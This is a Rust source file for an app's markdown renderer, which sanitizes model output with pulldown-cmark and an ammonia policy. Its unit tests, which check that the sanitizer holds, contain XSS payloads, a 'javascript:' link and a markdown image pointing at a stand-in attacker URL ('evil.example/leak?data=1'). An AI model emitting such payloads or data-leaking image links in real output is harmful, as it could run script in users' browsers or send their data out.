//! The one markdown renderer, and the only source of raw HTML in the app: pulldown-cmark, then
//! ammonia with an explicit policy. Answers and thinking both go through [`render`].
//!
//! Model output is hostile input: raw HTML in it is shown as text, images become links (a
//! remote image would leak data by its URL), and links open in a new tab with
//! `rel="noopener noreferrer nofollow"`.

use std::collections::HashSet;
use std::sync::OnceLock;

use pulldown_cmark::{CodeBlockKind, CowStr, Event, Options, Parser, Tag, TagEnd};

fn options() -> Options {
    Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS
}

fn policy() -> &'static ammonia::Builder<'static> {
    static POLICY: OnceLock<ammonia::Builder<'static>> = OnceLock::new();
    POLICY.get_or_init(|| {
        let tags: HashSet<&str> = [
            "p",
            "br",
            "hr",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "strong",
            "em",
            "del",
            "code",
            "pre",
            "blockquote",
            "ul",
            "ol",
            "li",
            "a",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "div",
            "span",
            "button",
            "sup",
        ]
        .into_iter()
        .collect();
        let mut b = ammonia::Builder::empty();
        b.tags(tags)
            .add_tag_attributes("a", ["href", "title"])
            .add_tag_attributes("ol", ["start"])
            .add_tag_attributes("code", ["class"])
            .add_tag_attributes("div", ["class"])
            .add_tag_attributes("span", ["class"])
            .add_tag_attributes("button", ["class", "type", "aria-label"])
            .url_schemes(["http", "https", "mailto"].into_iter().collect())
            .url_relative(ammonia::UrlRelative::Deny)
            .link_rel(Some("noopener noreferrer nofollow"))
            .set_tag_attribute_value("a", "target", "_blank")
            .strip_comments(true);
        b
    })
}

/// Renders markdown to sanitized HTML.
pub fn render(markdown: &str) -> String {
    let mut html = String::with_capacity(markdown.len() * 3 / 2);
    let mut code_lang: Option<String> = None;
    let events = Parser::new_ext(markdown, options()).map(|event| match event {
        Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
        Event::Start(Tag::Image { dest_url, title, .. }) => {
            Event::Html(CowStr::from(format!(
                "<a class=\"md-image\" href=\"{}\" title=\"{}\">🖼 ",
                escape_attr(&dest_url),
                escape_attr(&title)
            )))
        }
        Event::End(TagEnd::Image) => Event::Html(CowStr::Borrowed("</a>")),
        Event::Start(Tag::CodeBlock(kind)) => {
            let lang = match kind {
                CodeBlockKind::Fenced(info) => info.split_whitespace().next().unwrap_or("").to_string(),
                CodeBlockKind::Indented => String::new(),
            };
            let label = if lang.is_empty() { "text".to_string() } else { lang.clone() };
            let class = if lang.is_empty() { String::new() } else { format!(" class=\"language-{}\"", escape_attr(&lang)) };
            code_lang = Some(lang);
            Event::Html(CowStr::from(format!(
                "<div class=\"code-block\"><div class=\"code-head\"><span class=\"code-lang\">{}</span>\
                 <button class=\"copy-code\" type=\"button\" aria-label=\"Copy code\">Copy</button></div><pre><code{class}>",
                escape_attr(&label)
            )))
        }
        Event::End(TagEnd::CodeBlock) => {
            code_lang = None;
            Event::Html(CowStr::Borrowed("</code></pre></div>"))
        }
        Event::TaskListMarker(done) => Event::Text(CowStr::Borrowed(if done { "☑ " } else { "☐ " })),
        other => other,
    });
    pulldown_cmark::html::push_html(&mut html, events);
    let _ = code_lang;
    policy().clean(&html).to_string()
}

fn escape_attr(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '"' => out.push_str("&quot;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ordinary_markdown_renders() {
        assert_eq!(
            render("**bold** and *it*"),
            "<p><strong>bold</strong> and <em>it</em></p>\n"
        );
        assert!(render("- a\n- b").contains("<li>a</li>"));
        assert!(render("| a | b |\n|---|---|\n| 1 | 2 |").contains("<td>1</td>"));
    }

    #[test]
    fn raw_html_is_text() {
        let out = render("<script>alert(1)</script> <b onclick=x>hi</b>");
        assert!(!out.contains("<script"), "{out}");
        assert!(!out.contains("<b"), "{out}");
        assert!(out.contains("&lt;script&gt;"), "{out}");
    }

    #[test]
    fn links_are_safe_and_open_in_a_new_tab() {
        let out = render("[x](https://example.com)");
        assert!(
            out.contains("rel=\"noopener noreferrer nofollow\""),
            "{out}"
        );
        assert!(out.contains("target=\"_blank\""), "{out}");
        let out = render("[x](javascript:alert(1))");
        assert!(!out.contains("javascript:"), "{out}");
    }

    #[test]
    fn images_become_links() {
        let out = render("![secret](https://evil.example/leak?data=1)");
        assert!(!out.contains("<img"), "{out}");
        assert!(
            out.contains("href=\"https://evil.example/leak?data=1\""),
            "{out}"
        );
    }

    #[test]
    fn code_blocks_get_a_label_and_a_copy_button() {
        let out = render("```rust\nfn main() {}\n```");
        assert!(
            out.contains("<span class=\"code-lang\">rust</span>"),
            "{out}"
        );
        assert!(out.contains("class=\"copy-code\""), "{out}");
        assert!(
            out.contains("<code class=\"language-rust\">fn main() {}"),
            "{out}"
        );
    }
}
